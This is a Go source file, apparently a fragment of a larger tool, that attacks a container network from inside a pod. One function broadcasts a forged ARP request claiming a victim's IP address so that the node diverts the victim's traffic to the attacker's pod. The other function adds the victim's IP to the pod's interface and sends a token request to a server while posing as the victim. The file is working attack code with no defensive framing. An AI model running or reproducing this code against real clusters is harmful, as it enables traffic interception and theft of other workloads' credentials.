package main

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/netip"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

const interfaceName = "eth0"

// networkOrder is a two-byte number in network byte order, as the kernel expects it.
func networkOrder(n uint16) uint16 {
	return binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, n))
}

// divert makes the node send packets for the victim to this pod: an ARP request
// contains the sender's addresses, and the receiver caches them (RFC 826).
func divert(victim netip.Addr) error {
	link, err := netlink.LinkByName(interfaceName)
	if err != nil {
		return err
	}
	gateway, err := gatewayOf(link)
	if err != nil {
		return err
	}
	socket, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(networkOrder(unix.ETH_P_ARP)))
	if err != nil {
		return err
	}
	defer unix.Close(socket)
	own, target := link.Attrs().HardwareAddr, gateway.As4()
	sender := victim.As4()
	request := []byte{0, 1, 8, 0, 6, 4, 0, 1}
	request = append(append(request, own...), sender[:]...)
	request = append(append(request, make([]byte, 6)...), target[:]...)
	broadcast := unix.SockaddrLinklayer{Protocol: networkOrder(unix.ETH_P_ARP), Ifindex: link.Attrs().Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
	if err := unix.Sendto(socket, request, 0, &broadcast); err != nil {
		return err
	}
	// The reply shows that the request was processed.
	if err := unix.SetsockoptTimeval(socket, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1}); err != nil {
		return err
	}
	answer := make([]byte, 1500)
	for end := time.Now().Add(timeout); time.Now().Before(end); {
		n, _, err := unix.Recvfrom(socket, answer, 0)
		if err == nil && n >= 28 && answer[7] == 2 && netip.AddrFrom4([4]byte(answer[14:18])) == gateway {
			return nil
		}
	}
	return errors.New("the gateway does not answer")
}

func gatewayOf(link netlink.Link) (netip.Addr, error) {
	routes, err := netlink.RouteList(link, netlink.FAMILY_V4)
	if err != nil {
		return netip.Addr{}, err
	}
	for _, route := range routes {
		if gateway, ok := netip.AddrFromSlice(route.Gw); ok {
			return gateway.Unmap(), nil
		}
	}
	return netip.Addr{}, errors.New("no gateway")
}

// assume adds the address to its own interface, which needs CAP_NET_ADMIN.
func assume(victim netip.Addr) (string, error) {
	link, err := netlink.LinkByName(interfaceName)
	if err != nil {
		return "", err
	}
	address := &netlink.Addr{IPNet: &net.IPNet{IP: victim.AsSlice(), Mask: net.CIDRMask(32, 32)}}
	if err := netlink.AddrAdd(link, address); err != nil {
		return "", err
	}
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	dialer := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(victim, 0))}
	conn, err := dialer.DialContext(ctx, "tcp", server.String())
	if err != nil {
		return "", err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(timeout)); err != nil {
		return "", err
	}
	if _, err := io.WriteString(conn, tokenRequest); err != nil {
		return "", err
	}
	answer, err := io.ReadAll(io.LimitReader(conn, 1<<16))
	return string(answer), err
}
